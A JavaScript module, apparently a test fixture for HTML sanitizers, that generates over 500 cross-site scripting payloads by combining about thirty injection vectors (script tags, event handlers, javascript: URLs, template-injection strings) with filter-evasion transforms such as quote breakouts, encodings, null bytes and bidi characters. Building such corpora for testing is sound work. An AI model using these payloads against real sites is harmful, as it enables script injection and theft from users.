/**
 * Texts that become code in a careless page: each way in, disguised in each way past a filter.
 */

const RUN = "pwned=1";

const WAYS = [
  `<script>${RUN}</script>`,
  `<script src=data:,${RUN}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><mglyph><style><img src onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<base href="javascript:/${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style>@import "javascript:${RUN}"</style>`,
  `<div style="width:expression(${RUN})">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xss style="animation-name:x" onanimationstart=${RUN}>`,
  `javascript:${RUN}`,
  `https://example.org/"onmouseover=${RUN}//`,
  `https://example.org/'><img src=x onerror=${RUN}>`,
  `data:text/html,<script>opener.${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
];

const DRESSES = [
  (way) => way,
  (way) => `">${way}`,
  (way) => `'>${way}`,
  (way) => `-->${way}<!--`,
  (way) => `]]>${way}`,
  (way) => `</title></textarea></style></script>${way}`,
  (way) => way.toUpperCase().replaceAll("PWNED=1", RUN),
  (way) => way.replaceAll(" ", "/"),
  (way) => way.replaceAll(" ", "\t"),
  (way) => way.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (way) => way.replaceAll("<", "\\u003c"),
  (way) => way.replaceAll("<", "<<"),
  (way) => way.replaceAll("=", "=\u0000"),
  (way) => encodeURIComponent(way),
  (way) => `\`\`\`\n${way}\n\`\`\``,
  (way) => `\`${way}\``,
  (way) => `\u202e${way}\u200b`,
  (way) => `${way}${"W".repeat(900)}`,
];

/** @returns {string[]} more than 500, no two alike */
export function payloads() {
  return [...new Set(WAYS.flatMap((way) => DRESSES.map((dress) => dress(way))))];
}
